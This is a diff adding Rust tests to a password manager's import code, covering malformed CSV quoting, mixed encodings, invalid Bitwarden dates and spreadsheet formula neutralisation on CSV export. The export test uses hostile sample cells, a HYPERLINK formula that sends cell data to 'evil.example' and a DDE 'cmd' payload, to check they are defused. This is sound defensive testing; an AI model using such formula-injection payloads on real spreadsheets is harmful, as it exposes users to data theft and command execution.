@@ -3,7 +3,7 @@
 
 mod common;
 
-use noren_core::credential::{Category, Credential};
+use noren_core::credential::{Category, Credential, CredentialInput};
 use noren_core::crypto::KdfParams;
 use noren_core::import::{self, OnDuplicate};
 use noren_core::import_formats::{self, Mapping};
@@ -124,4 +124,85 @@ fn generic_shift_jis_csv_with_a_mapping_and_bad_rows() {
     let st = store(&tmp);
     let r = import::commit(&st, &c, OnDuplicate::Skip, common::clock()).unwrap();
     assert_eq!(r.imported, 2);
+}
+
+/// Refused with the line, not guessed: a quote never closed (the rest of the
+/// file would have become one name) and a file in two encodings (part of it
+/// would have become mojibake). A quote inside an unquoted value is text.
+#[test]
+fn unclosed_quotes_and_mixed_encodings_are_refused_with_the_line() {
+    let unclosed =
+        "name,url,username,password\nエキテン,\"https://www.ekiten.jp,sakura,pw1\nホットペッパー,https://beauty.hotpepper.jp,sakura,pw2\n";
+    let e = import_formats::csv(unclosed.as_bytes(), None).map(|_| ()).unwrap_err();
+    assert!(e.to_string().contains("line 2") && e.to_string().contains("never closed"), "{e}");
+    let inches = "name,url,username,password\n24\" モニター,https://x.example.jp,a,\"p\"\"w\"\n";
+    let (_, c, _) = import_formats::csv(inches.as_bytes(), None).unwrap();
+    assert_eq!(c[0].input.name.as_deref(), Some("24\" モニター"));
+    assert_eq!(c[0].input.password.as_ref().unwrap().expose(), "p\"w");
+    let mut mixed = "name,url,username,password\n".as_bytes().to_vec();
+    mixed.extend("エキテン,https://www.ekiten.jp,sakura,pw1\n".as_bytes());
+    let (sjis, _, _) = encoding_rs::SHIFT_JIS.encode("ホットペッパー,https://beauty.hotpepper.jp,sakura,pw2\n");
+    mixed.extend(sjis.iter());
+    let e = import_formats::csv(&mixed, None).map(|_| ()).unwrap_err();
+    assert!(e.to_string().contains("mixes two encodings (UTF-8 on line 2, Shift_JIS on line 3)"), "{e}");
+    // One encoding throughout is read as before.
+    let (all_sjis, _, _) =
+        encoding_rs::SHIFT_JIS.encode("name,url,username,password\nホットペッパー,https://beauty.hotpepper.jp,sakura,pw2\n");
+    assert_eq!(import_formats::csv(&all_sjis, None).unwrap().1.len(), 1);
+}
+
+/// A CSV export opened in a spreadsheet computes nothing: formula cells in
+/// names, addresses, logins and notes are shown (leading '), a password only
+/// when it acts as a formula, so generated ones still work elsewhere.
+#[test]
+fn csv_export_neutralises_formula_cells() {
+    let tmp = tempfile::tempdir().unwrap();
+    let st = store(&tmp);
+    let mut hostile = CredentialInput {
+        category: Some(noren_core::credential::Category::Other),
+        name: Some("=HYPERLINK(\"https://evil.example/?\"&D2,\"click\")".into()),
+        login: Some("@SUM(1+1)".into()),
+        password: Some(noren_core::SecretString::new("+cmd|' /C calc'!A0")),
+        notes: Some("-2+3".into()),
+        ..Default::default()
+    };
+    noren_core::credential::add(&st, &hostile, common::clock()).unwrap();
+    hostile.name = Some("生成したパスワード".into());
+    hostile.login = Some("admin".into());
+    hostile.password = Some(noren_core::SecretString::new("-Kp3$wQ9!nB7&xR2z"));
+    hostile.notes = None;
+    noren_core::credential::add(&st, &hostile, common::clock()).unwrap();
+    let (text, marked) = import_formats::to_csv(&st.all::<Credential>().unwrap());
+    assert_eq!(marked, 1);
+    let mut rdr = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<Vec<String>> = rdr.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
+    let evil = rows.iter().find(|r| r[0].contains("HYPERLINK")).unwrap();
+    for cell in evil {
+        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?} would be computed");
+    }
+    assert_eq!(evil[3], "'+cmd|' /C calc'!A0");
+    let generated = rows.iter().find(|r| r[0] == "生成したパスワード").unwrap();
+    assert_eq!(generated[3], "-Kp3$wQ9!nB7&xR2z", "a generated password is written as it is");
+}
+
+/// Bitwarden dates that are no dates (2026-02-30) are said, and the old
+/// passwords they dated are kept (dated by their entry), not dropped.
+#[test]
+fn bitwarden_dates_that_are_no_dates_are_said_and_lose_nothing() {
+    let json = r#"{"encrypted":false,"folders":[],"items":[{"type":1,"name":"エキテン","creationDate":"2026-02-30T10:00:00Z","revisionDate":"2026-03-01T10:00:00Z",
+        "login":{"uris":[{"uri":"https://www.ekiten.jp"}],"username":"sakura","password":"now-pw"},
+        "passwordHistory":[{"lastUsedDate":"2025-13-01T00:00:00Z","password":"old-pw"}]}]}"#;
+    let (c, skipped) = import_formats::bitwarden_json(json.as_bytes()).unwrap();
+    assert!(skipped.is_empty());
+    assert_eq!(c[0].history.len(), 1, "the old password is kept");
+    assert_eq!(c[0].history[0].0.expose(), "old-pw");
+    let tmp = tempfile::tempdir().unwrap();
+    let st = store(&tmp);
+    let p = import::preview(&st, "Bitwarden", &c, Vec::new(), common::clock()).unwrap();
+    assert_eq!(p.changed.len(), 1);
+    let said = &p.changed[0].reason;
+    assert!(said.contains("creationDate \"2026-02-30T10:00:00Z\" is not a date") && said.contains("1 old password"), "{said}");
+    let r = import::commit(&st, &c, OnDuplicate::Skip, common::clock()).unwrap();
+    assert_eq!(r.imported, 1);
+    assert_eq!(st.all::<Credential>().unwrap()[0].history.len(), 1);
 }
